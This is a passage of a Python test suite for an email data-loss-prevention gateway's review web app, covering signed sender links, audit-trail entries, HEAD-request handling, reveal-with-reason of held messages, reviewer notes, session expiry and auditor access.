        (sender.post(link("confirm"), data={"reason": "ok"}), 400),
        (sender.post(link("confirm"), data={"reason": "her GP asked for it"}), 200),
        (sender.post(link("confirm"), data={"reason": "her GP asked for it"}), 409),
        (sender.post(link("cancel")), 409),
        (sender.post(link("false-alarm"), data={"reason": "a parent"}), 200),
        (sender.post(link("false-alarm")), 200),
    ]
    assert [r.status_code for r, _ in shown] == [status for _, status in shown]
    expired = links.make(key, item.id, "cancel", time.time() - 1)
    forged = links.make(b"a guessed key", item.id, "send-now", time.time() + 3600)
    assert sender.get(f"/l/{expired}").status_code == 410
    assert sender.post(f"/l/{forged}").status_code == 410
    assert sender.get(link("confirm", item_id="no-such-message")).status_code == 404
    assert [m.rcpt_tos for m in world["sink"].received] == [["carer@gmail.com"]]

    who = f"sender:{item.mail_from}"
    entries = [e for e in reversed(store.audit_log()) if e.via == "link"]
    assert [(e.actor, e.action, e.item_id, e.reason, e.detail) for e in entries] == [
        (who, "view", item.id, "", "purpose=confirm"),
        (who, "view", item.id, "", "purpose=confirm; 400 after confirm without a reason"),
        (who, "release", item.id, "her GP asked for it", ""),
        (who, "view", item.id, "", "purpose=confirm; 200 after confirm"),
        (who, "release-refused", item.id, "her GP asked for it",
         "not released: it is already released"),
        (who, "view", item.id, "", "purpose=confirm; 409 after confirm"),
        (who, "reject-refused", item.id, "cancelled by the sender",
         "not rejected: it is already released"),
        (who, "view", item.id, "", "purpose=cancel; 409 after cancel"),
        (who, "false-alarm", item.id, "a parent", ",".join(item.rules)),
        (who, "view", item.id, "", "purpose=false-alarm; 200 after false-alarm"),
        (who, "view", item.id, "", "purpose=false-alarm; 200 after false-alarm already recorded"),
        (who, "link-refused", item.id, "", "purpose=cancel; 410 expired; 198.51.100.7"),
        ("sender:(unknown)", "link-refused", "", "",
         f"410 not valid; token {links.fingerprint(forged)}; 198.51.100.7"),
        ("sender:(unknown)", "link-refused", "no-such-message", "",
         "purpose=confirm; 404 no longer held; 198.51.100.7"),
    ]
    # a link is a credential: not kept in clear; nor are the recipients the page shows
    trail = repr(store.audit_log())
    assert forged not in trail and expired not in trail and forged.split(".")[1] not in trail
    assert "carer@gmail.com" not in repr(entries)


def test_a_senders_confirm_while_the_next_hop_is_down_is_audited_as_the_release_that_failed(
        world):
    world["sink"].stop()
    store, settings = world["store"], world["settings"]
    item = dataclasses.replace(store.get_held(world["id"]), id="4" * 22, state="awaiting-sender",
                               action="confirm")
    store.hold(item)
    token = links.make(links.link_key(settings, store), item.id, "confirm", time.time() + 3600)
    r = client(world).post(f"/l/{token}", data={"reason": "her GP asked for it"})
    assert r.status_code == 409 and "still held" in r.text
    # the release was tried: release-failed says why, and nothing calls it refused
    trail = [(e.action, e.detail.split(":")[0]) for e in reversed(store.audit_log(item.id))]
    assert trail == [("release-failed", "next hop"), ("view", "purpose=confirm; 409 after confirm")]
    assert store.get_held(item.id).state == "held"  # now for a reviewer to decide


def test_a_head_request_on_the_sign_in_page_is_no_failed_sign_in(world):
    # a monitor's HEAD /login was taken for the form's POST: each a sign-in-failed, and ten
    # locked its address out (behind a proxy, every reviewer's)
    c = client(world)
    assert {c.head("/login").status_code for _ in range(11)} == {200}
    assert world["store"].audit_log() == []
    assert c.post("/login", data={"username": "ann", "password": PASSWORD}).status_code == 303


def test_a_head_request_on_a_senders_link_only_shows_like_a_get(world):
    # Starlette answers HEAD on a GET route, and the handler took anything but GET for the
    # POST: a link checker's HEAD on a cancel link rejected the message, on send-now sent it
    store, settings = world["store"], world["settings"]
    key = links.link_key(settings, store)
    c = client(world)
    for n, purpose in enumerate(("cancel", "send-now", "confirm")):
        item = dataclasses.replace(store.get_held(world["id"]), id=f"{5 + n}" * 22,
                                   state="awaiting-sender", action="delay")
        store.hold(item)
        assert c.head(f"/l/{links.make(key, item.id, purpose, time.time() + 3600)}"
                      ).status_code == 200
        assert store.get_held(item.id).state == "awaiting-sender"
        assert [(e.action, e.detail) for e in store.audit_log(item.id)] == [
            ("view", f"purpose={purpose}")]
    assert world["sink"].received == []


def test_what_the_scan_left_unread_is_shown_beside_the_findings(world, scanner, ocr_installed):
    # nothing found in a picture the scan never read is no evidence of nothing there
    logos = [testdata.banner_of(f"Partner {n} Trust", 160, 60, scale=1) for n in range(3)]
    raw = make_message(to=("carer@gmail.com",), body=f"NHS number {NHS}: epilepsy.\n",
                       pasted=tuple((f"image00{n}.png", "image/png", logo)
                                    for n, logo in enumerate(logos)))
    item = HeldMessage.of(scanner.scan(raw, make_envelope(raw)), make_envelope(raw), raw,
                          time.time())
    world["store"].hold(item)
    settings = Settings.model_validate({
        **world["settings"].model_dump(mode="json", exclude_unset=True),
        "scan": {"ocr": {"max_pages": 2}}})
    ann = TestClient(create_app(settings, world["store"]), follow_redirects=False)
    assert ann.post("/login", data={"username": "ann", "password": PASSWORD,
                                    "next": "/"}).status_code == 303
    page = ann.get(f"/m/{item.id}").text
    unread = page.split("<h2>Not read</h2>")[1].split("</ul>")[0]
    # in words for the one deciding, not the operator's setting names
    assert "<li>2 small picture(s) were not read: logos, or small cut-outs of a screen" in unread
    assert "scan.ocr" not in unread
    assert "<h2>Not read</h2>" not in ann.get(f"/m/{world['id']}").text


def test_a_held_message_with_no_sender_is_listed_as_such_not_as_escaped_markup(world):
    hold_from(world, "", "notices@example-council.gov.uk")
    page = signed_in(world, "ann").get("/").text
    assert "(no sender: a bounce or a notice)" in page
    assert "&amp;lt;" not in page


def test_a_message_held_unread_is_shown_revealed_and_released_without_being_parsed_here(
        world, scanner, monkeypatch):
    # its scan failed relay.max_scan_attempts times: what killed the workers is in its bytes,
    # and the review app runs in the relay's process; a reveal opens it in another
    raw = make_message(to=("carer@gmail.com",), body=f"NHS number {NHS}.\n")
    result = scanner.unread(raw, make_envelope(raw), "", "the scan failed 3 times (the last: "
                            "scan worker died), so nothing in the message could be checked")
    item = HeldMessage.of(result, make_envelope(raw), raw, time.time())
    world["store"].hold(item)

    def crash(*args, **kwargs):
        raise AssertionError("the held message was parsed")

    monkeypatch.setattr("dlpgate.review.content.parse", crash)
    monkeypatch.setattr("dlpgate.parse.mime.parse", crash)
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{item.id}")
    assert page.status_code == 200
    assert "the scan failed 3 times (the last: scan worker died)" in page.text
    assert "The gateway did not read this message" in page.text and NHS not in page.text
    shown = ann.post(f"/m/{item.id}/reveal", data={"csrf": csrf(page.text),
                                                   "reason": "what is in it?"})
    assert shown.status_code == 200
    assert f"NHS number {NHS}." in shown.text  # read by a process of its own, unmarked
    assert "<mark" not in shown.text
    r = ann.post(f"/m/{item.id}/release", data={"csrf": csrf(page.text),
                                                "comment": "sender read it to me"})
    assert r.status_code == 200 and 'id="state">released' in r.text
    [got] = world["sink"].received
    assert got.data.endswith(raw)


def held_unread(world, scanner, raw: bytes) -> HeldMessage:
    result = scanner.unread(raw, make_envelope(raw), "", "the scan failed 3 times (the last: "
                            "scan exceeded 60 s), so nothing in the message could be checked")
    item = HeldMessage.of(result, make_envelope(raw), raw, time.time())
    world["store"].hold(item)
    return item


def test_a_message_held_unread_is_opened_for_a_reviewer_who_gives_a_reason_and_audited(
        world, scanner):
    raw = make_message(to=("carer@gmail.com",), subject="Amelia's care plan",
                       body=f"NHS number {NHS}.\n",
                       attachments=(("Amelia plan.pdf", "application/pdf", b"%PDF" * 512),))
    item = held_unread(world, scanner, raw)
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{item.id}").text
    assert "Amelia" not in page and NHS not in page  # before a reason, none of it
    assert 'aria-describedby="reveal-hint"' in page

    shown = ann.post(f"/m/{item.id}/reveal", data={"csrf": csrf(page),
                                                   "reason": "the sender asked why"}).text
    assert "<dt>Subject</dt><dd>Amelia&#39;s care plan</dd>" in shown
    assert "<td>application/pdf</td><td class=\"address\">Amelia plan.pdf</td>" \
        "<td class=\"nowrap\">2.0 KB</td>" in shown
    assert f"NHS number {NHS}." in shown and "could not be opened" not in shown
    assert 'name="reason"' not in shown  # shown: the form is not offered again
    view, reveal = world["store"].audit_log(item_id=item.id, limit=2)
    assert (reveal.action, reveal.reason) == ("reveal", "the sender asked why")
    assert (view.action, view.detail) == ("view", "200 after reveal; opened: 3 part(s)")


def test_a_message_held_unread_that_cannot_be_opened_in_time_says_so_and_can_be_rejected(
        world, scanner):
    item = held_unread(world, scanner, make_message(to=("carer@gmail.com",), body=f"{NHS}\n"))
    settings = Settings.model_validate({
        **world["settings"].model_dump(mode="json", exclude_unset=True),
        "review": {"secure_cookies": False, "open_timeout": 0.001}})
    token = auth.new_token()
    world["store"].create_session(auth.token_hash(token), "ann", auth.new_token(),
                                  world["store"].get_user("ann").generation)
    ann = TestClient(create_app(settings, world["store"]), follow_redirects=False,
                     cookies={"dlpgate_session": token})
    page = ann.get(f"/m/{item.id}").text
    shown = ann.post(f"/m/{item.id}/reveal", data={"csrf": csrf(page), "reason": "look at it"})
    assert shown.status_code == 200
    assert "This message could not be opened for display: it ran out of time." in shown.text
    assert NHS not in shown.text
    [view] = world["store"].audit_log(item_id=item.id, action="view", limit=1)
    assert view.detail == "200 after reveal; not opened: it ran out of time"
    r = ann.post(f"/m/{item.id}/reject", data={"csrf": csrf(shown.text),
                                               "comment": "cannot tell what it is"})
    assert r.status_code == 200 and 'id="state">rejected' in r.text


def test_a_reviewer_adds_a_note_that_the_others_read_and_the_trail_keeps(world):
    ann = signed_in(world, "ann")
    item = f"/m/{world['id']}"
    page = ann.get(item).text
    assert "No notes yet." in page
    r = ann.post(f"{item}/note", data={"csrf": csrf(page),
                                       "note": "Phoned the sender:\n  the address is her GP's."})
    assert r.status_code == 200 and "Note added." in r.text
    assert "web:ann: Phoned the sender: the address is her GP&#39;s." in r.text  # one line
    # neither a release nor a reject: it waits as it did, for the next reviewer to read
    assert world["store"].get_held(world["id"]).state == "held" and world["sink"].received == []
    for _ in range(250):  # a note is not pushed off the page by the looks after it
        world["store"].audit(AuditEntry("web:bob", "view", world["id"], via="web"))
    assert "the address is her GP&#39;s." in signed_in(world, "root").get(item).text
    blank = ann.post(f"{item}/note", data={"csrf": csrf(page), "note": "  \n "})
    assert blank.status_code == 400 and "Write the note before adding it." in blank.text
    trail = [(e.actor, e.action, e.reason, e.detail) for e in world["store"].audit_log(
        item_id=world["id"]) if e.actor == "web:ann"]
    assert trail[:2] == [("web:ann", "view", "", "400 after note without its text"),
                         ("web:ann", "view", "", "200 after note")]
    assert ("web:ann", "note", "Phoned the sender: the address is her GP's.", "") in trail
    # a note needs the form's token, and a reviewer's role
    assert ann.post(f"{item}/note", data={"note": "x"}).status_code == 403
    audrey = signed_in(world, "audrey")
    assert audrey.post(f"{item}/note", data={"note": "x"}).status_code == 403
    assert [e.actor for e in world["store"].audit_log(action="note")] == ["web:ann"]


def test_a_form_sent_after_the_session_lapsed_leads_back_to_its_page_saying_nothing_was_done(
        world):
    # she signed in again to "Method Not Allowed" at /m/ID/release, told nothing of the release
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    world["store"].end_sessions(username="ann")  # idle too long, or signed out elsewhere
    r = ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "her GP"})
    assert r.status_code == 303
    assert r.headers["location"] == f"/login?next=/m/{world['id']}&ended=post"
    told = ann.get(r.headers["location"]).text
    assert "Your session had ended before that reached the server, so nothing was done." in told
    assert world["store"].get_held(world["id"]).state == "held" and world["sink"].received == []
    back = ann.post("/login", data={"username": "ann", "password": PASSWORD,
                                    "next": f"/m/{world['id']}"})
    assert back.headers["location"] == f"/m/{world['id']}"
    # a page asked for with a session that lapsed says so; a first visit does not
    lapsed = client(world)
    lapsed.cookies.set("dlpgate_session", "lapsed")
    assert lapsed.get("/").headers["location"] == "/login?next=/&ended=1"
    assert "Your session has ended" in lapsed.get("/login?next=/&ended=1").text
    assert client(world).get("/").headers["location"] == "/login?next=/"
    assert "session" not in client(world).get("/login?next=/&ended=lies").text.lower()


def test_an_auditor_signs_in_to_the_audit_trail_and_a_refusal_keeps_her_links(world):
    # she was sent to the queue, "this page needs the reviewer role", with no way on
    audrey = signed_in_by_password(world, "audrey")
    assert audrey.post("/login", data={"username": "audrey", "password": PASSWORD,
                                       "next": "/"}).headers["location"] == "/audit"
    assert signed_in_by_password(world, "ann").post("/login", data={
        "username": "ann", "password": PASSWORD, "next": "/"}).headers["location"] == "/"
    refused = audrey.get(f"/m/{world['id']}")
    assert refused.status_code == 403 and '<a href="/audit">Audit</a>' in refused.text
    assert '<a href="/audit">Back to the audit trail</a>' in refused.text


def test_an_auditor_finds_what_a_reviewer_did_by_her_name_alone(world):
    ann = signed_in(world, "ann")
    ann.get(f"/m/{world['id']}")
    world["store"].audit(AuditEntry("cli:ann", "list", via="cli"))
    world["store"].audit(AuditEntry("web:annie", "list", via="web"))
    audrey = signed_in(world, "audrey")
    page = audrey.get("/audit?actor=ann").text
    assert "<td>web:ann</td>" in page and "<td>cli:ann</td>" in page and "annie" not in page
    assert "cli:ann" not in audrey.get("/audit?actor=web:ann").text  # as written: one channel
    assert audrey.get("/audit.csv?actor=ann&action=VIEW").text.count("web:ann,view,") == 1
    [looked] = world["store"].audit_log(action="audit-export")
    assert looked.detail == "actor='ann'; action='VIEW'; 1 found"


def test_a_decided_message_is_headed_by_what_became_of_it(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    assert "<h1>Held: " in page
    done = ann.post(f"/m/{world['id']}/reject", data={"csrf": csrf(page), "comment": "wrong"})
    assert "<h1>Rejected: " in done.text and "rejected: it will not be sent" in done.text


def test_the_reasons_of_the_rules_that_held_it_come_first_and_the_rest_are_said_to_ask_less(
        world):
    item = world["store"].get_held(world["id"])
    held_by = [r for m in item.matches if m["action"] == "hold" and m["mode"] == "enforce"
               for r in m["reasons"]]
    asked_less = [r for m in item.matches if m["action"] != "hold" and m["mode"] == "enforce"
                  for r in m["reasons"]]
    assert held_by and asked_less  # a hold, a confirm and a log among them
    page = signed_in(world, "ann").get(f"/m/{world['id']}").text

    def listed(css: str) -> list[str]:
        found = re.search(rf'<ul class="{css}">(.*?)</ul>', page, re.S)
        return [html.unescape(t) for t in re.findall(r"<li>(.*?)</li>", found.group(1))]

    assert [r.split(": ")[-1] for r in listed("reasons")] == [
        r.split(": ")[-1] for r in held_by]  # the file's name is shown as its place, not named
    assert listed("reasons-less") == asked_less
    less = ", ".join(dict.fromkeys(m["rule"] for m in item.matches if m["action"] != "hold"))
    assert f"Other rules matched too ({less}), asking for less than hold" in page
    # a hold whose reasons do not line up with its matches keeps them as one list
    world["store"].hold(dataclasses.replace(item, id="older", matches=()))
    page = signed_in(world, "ann").get("/m/older").text
    assert 'class="reasons-less"' not in page and page.count("<li>") > len(held_by)
